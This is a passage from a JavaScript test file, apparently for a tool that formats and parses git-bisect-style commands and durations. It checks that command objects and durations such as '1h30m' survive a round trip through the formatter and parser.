        options: { flaky: true, confidence: 0.95, parallel: 3, timeoutSeconds: 5430, firstParent: true, stepTimeoutSeconds: 0 },
        command: "npm test",
      },
      { kind: "bisect", range: { goods: ["v1"], bad: "v2" }, options: { parallel: 64, stepTimeoutSeconds: 21600 }, command: null },
      { kind: "bisect", range: { goods: ["a"], bad: "b" }, options: {}, command: "set -e\necho '```'\nmake" },
      { kind: "bisect", range: { goods: ["a"], bad: "b" }, options: {}, command: "  indented" },
    ];
    for (const command of commands) expect(parseComment(formatBisectCommand(command))).toMatchObject({ ok: true, command });
  });

  it("writes durations the parser reads back", () => {
    for (const seconds of [60, 90, 3600, 3661, 5400, 21600]) expect(parseDuration(formatDuration(seconds))).toBe(seconds);
    expect(formatDuration(5400)).toBe("1h30m");
  });
});
